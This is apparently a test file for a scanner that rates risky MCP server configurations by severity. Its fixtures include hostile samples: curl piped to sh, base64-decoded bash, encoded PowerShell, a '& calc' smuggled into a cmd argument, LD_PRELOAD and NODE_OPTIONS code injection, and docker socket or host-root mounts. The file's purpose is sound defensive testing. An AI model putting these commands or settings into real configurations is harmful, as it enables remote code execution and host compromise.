// biome-ignore-all lint/suspicious/noTemplateCurlyInString: texts of configs, not templates
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding } from '../../../wire/index.ts';
import { TempHome } from '../temp-home.ts';

async function scanOne(home: TempHome, entry: object, env: object = {}): Promise<readonly Finding[]> {
  home.write('.cursor/mcp.json', { mcpServers: { s: entry } });
  const inherited = { HOME: home.path, PATH: '/usr/bin:/bin', ...env };
  const { servers } = await home.scan({ env: inherited });
  assert.equal(servers.length, 1);
  return servers[0]?.server.findings ?? [];
}

/** What an entry says, and the severity that the finding then has; null where it must not be found. */
type Case = readonly [entry: object, severity: Finding['severity'] | null];

async function check(id: string, cases: readonly Case[]): Promise<void> {
  using home = new TempHome();
  for (const [entry, severity] of cases) {
    const text = JSON.stringify(entry).replaceAll('HOME_OF_TEST', home.path);
    const findings = await scanOne(home, JSON.parse(text));
    const found = findings.find((finding) => finding.id === id) ?? null;
    assert.equal(found?.severity ?? null, severity, `${text}: ${JSON.stringify(findings.map((f) => f.id))}`);
  }
}

const docker = (...options: readonly string[]) => ({
  command: 'docker',
  args: ['run', '-i', '--rm', ...options, `mcp/x@sha256:${'a'.repeat(64)}`, '--privileged'],
});
const node = (env: object) => ({ command: 'node', args: ['x.mjs'], env });

test('shell wrappers are told by what their text does; scripts and other programs are none', () =>
  check('mcp_shell_wrapper', [
    [{ command: 'bash', args: ['-c', 'exec node x.mjs'] }, 'low'],
    [{ command: '/bin/sh', args: ['-lc', 'node x.mjs'] }, 'low'],
    [{ command: 'sh', args: ['-c', 'cd /srv && node x.mjs'] }, 'medium'],
    [{ command: 'sh', args: ['-c', 'curl -s https://x.example/i | sh'] }, 'high'],
    [{ command: 'bash', args: ['-c', 'echo aGk= | base64 -d | bash'] }, 'high'],
    [{ command: 'env', args: ['A=1', 'bash', '-c', 'node x.mjs'] }, 'low'],
    [{ command: 'cmd', args: ['/c', 'npx', '-y', 'pkg@1.0.0'] }, 'informational'],
    [{ command: 'cmd.exe', args: ['/C', 'npx pkg@1.0.0 & calc'] }, 'medium'],
    [{ command: 'powershell', args: ['-NoProfile', '-EncodedCommand', 'ZQBj'] }, 'high'],
    [{ command: 'pwsh', args: ['-ExecutionPolicy', 'Bypass', '-File', 'x.ps1'] }, 'medium'],
    [{ command: 'pwsh', args: ['-File', 'x.ps1'] }, null],
    [{ command: 'bash', args: ['server.sh', '-c', 'config.json'] }, null],
    [{ command: 'node', args: ['-c', 'x'] }, null],
    [{ command: 'python3', args: ['-c', 'print(1)'] }, null],
    [{ command: 'env', args: ['A=1', 'node', 'x.mjs'] }, null],
  ]));

test('npx with a shell text is found, npx with a package is not', () =>
  check('mcp_npx_call', [
    [{ command: 'npx', args: ['-y', '-c', 'pkg --x'] }, 'medium'],
    [{ command: 'npm', args: ['exec', '--call', 'pkg'] }, 'medium'],
    [{ command: 'npx', args: ['-y', 'pkg@1.0.0', '-c', 'file.json'] }, null],
  ]));

test('containers that reach the host are found, confined ones are not', () =>
  check('mcp_docker_privileged', [
    [docker('--privileged'), 'high'],
    [docker('-v', '/var/run/docker.sock:/var/run/docker.sock'), 'high'],
    [docker('-v', '/:/host'), 'high'],
    [docker('-v', '/etc:/etc:ro'), 'high'],
    [docker('-v/:/host'), 'high'],
    [docker('--mount', 'type=bind,src=/,dst=/host'), 'high'],
    [docker('--cap-add=SYS_ADMIN'), 'high'],
    [docker('--pid', 'host'), 'high'],
    [docker('-v', 'HOME_OF_TEST:/home'), 'medium'],
    [docker('--network=host'), 'low'],
    [docker(), null],
    [docker('--privileged=false'), null],
    [docker('-v', '/srv/data:/data', '--network', 'none'), null],
    [docker('--cap-add', 'NET_BIND_SERVICE', '-v', 'volume:/data'), null],
    [docker('--mount', 'type=volume,src=data,dst=/'), null],
    [{ command: 'node', args: ['run', '--privileged'] }, null],
  ]));

test('variables that load code are found; settings of the same name that do not are not', () =>
  check('mcp_loader_variable', [
    [node({ NODE_OPTIONS: '--require ./x.cjs' }), 'high'],
    [node({ NODE_OPTIONS: '--inspect=0.0.0.0:9229' }), 'high'],
    [node({ LD_PRELOAD: '/opt/x.so' }), 'high'],
    [node({ BASH_ENV: '/srv/env.sh' }), 'high'],
    [node({ ENV: '/srv/env.sh' }), 'high'],
    [node({ PERL5OPT: '-Mx' }), 'high'],
    [node({ JAVA_TOOL_OPTIONS: '-javaagent:/x.jar' }), 'high'],
    [node({ PYTHONPATH: '/srv/app/src' }), 'low'],
    [node({ PYTHONPATH: '/tmp/x' }), 'high'],
    [node({ GIT_SSH_COMMAND: 'ssh -i key' }), 'low'],
    [{ command: 'env', args: ['LD_PRELOAD=/x.so', 'node', 'x.mjs'] }, 'high'],
    [node({ NODE_OPTIONS: '--max-old-space-size=4096 --no-warnings' }), null],
    [node({ ENV: 'production', NODE_ENV: 'production' }), null],
    [node({ JAVA_TOOL_OPTIONS: '-Xmx1g' }), null],
    [node({ PYTHONUNBUFFERED: '1', LD_PRELOAD: '' }), null],
    [{ command: 'node', args: ['x.mjs', 'LD_PRELOAD=/x.so'] }, null],
  ]));

test('what a server inherits from its user is found, at a lower severity, and not where it is remote', async () => {
  using home = new TempHome();
  const severityOf = async (entry: object, env: object) =>
    (await scanOne(home, entry, env)).find(({ id }) => id === 'mcp_loader_variable')?.severity ?? null;
  assert.equal(await severityOf(node({}), { LD_PRELOAD: '/x.so' }), 'medium');
  assert.equal(await severityOf(node({}), { PYTHONPATH: '/x' }), 'informational');
  assert.equal(await severityOf({ url: 'https://x.example' }, { LD_PRELOAD: '/x.so' }), null);
  assert.equal(await severityOf(node({}), { NODE_OPTIONS: '--no-warnings' }), null);
  assert.equal(await severityOf(node({}), { LD_PRELOAD: '/x.so', HOME: '/someone/else' }), null);
});

test('unchecked certificates are found, in env, arguments and containers', () =>
  check('mcp_insecure_tls', [
    [node({ NODE_TLS_REJECT_UNAUTHORIZED: '0' }), 'high'],
    [node({ JIRA_SSL_VERIFY: 'false' }), 'high'],
    [node({ VERIFY_SSL: 'no' }), 'high'],
    [{ command: 'node', args: ['x.mjs', '--insecure'] }, 'high'],
    [{ command: 'node', args: ['x.mjs', '--ssl-verify=false'] }, 'high'],
    [docker('-e', 'NODE_TLS_REJECT_UNAUTHORIZED=0'), 'high'],
    [node({ NODE_TLS_REJECT_UNAUTHORIZED: '1', JIRA_SSL_VERIFY: 'true' }), null],
    [node({ NODE_EXTRA_CA_CERTS: '/etc/ca.pem' }), null],
    [{ command: 'node', args: ['x.mjs', '--verify=true', '--insecure-registry-list'] }, null],
  ]));

test('plain http that leaves the host is found', () =>
  check('mcp_plain_http', [
    [{ url: 'http://x.example/mcp' }, 'medium'],
    [{ url: 'http://10.0.0.5:8080/mcp' }, 'medium'],
    [{ command: 'npx', args: ['-y', 'mcp-remote@0.1.0', 'http://x.example/sse'] }, 'medium'],
    [{ url: 'http://127.0.0.1:3000/mcp' }, null],
    [{ url: 'http://host.docker.internal:3000/mcp' }, null],
    [{ url: 'http://[::1]:3000/mcp' }, null],
    [{ url: 'https://x.example/mcp' }, null],
    [{ command: 'npx', args: ['-y', 'mcp-remote@0.1.0', 'https://x.example/sse'] }, null],
    [{ command: 'node', args: ['x.mjs', 'http://x.example/docs'] }, null],
  ]));

test('a remote server without any credential is a note, one with a credential or on this host is none', () =>
  check('mcp_remote_unauthenticated', [
    [{ url: 'https://x.example/mcp' }, 'informational'],
    [{ url: 'https://x.example/mcp', headers: { 'X-Tenant': 'a' } }, 'informational'],
    [{ url: 'https://x.example/mcp', headers: { Authorization: 'Bearer ${TOKEN}' } }, null],
    [{ url: 'https://x.example/mcp', headersHelper: './token.sh' }, null],
    [{ url: 'https://x.example/mcp', oauth: { clientId: 'x' } }, null],
    [{ url: 'https://x.example/mcp?apiKey=${KEY}' }, null],
    [{ url: 'https://localhost:8443/mcp' }, null],
    [{ command: 'node', args: ['x.mjs'] }, null],
  ]));

test('file servers with too much to read are found, those with a project are not', () =>
  check('mcp_root_filesystem', [
    [{ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@1.0.0', '/'] }, 'high'],
    [{ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@1.0.0', '~/.ssh'] }, 'high'],
    [
      { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@1.0.0', 'HOME_OF_TEST/'] },
      'medium',
    ],
    [{ command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@1.0.0', '/srv/project'] }, null],
    [{ command: 'npx', args: ['-y', 'profiler@1.0.0', '/'] }, null],
  ]));
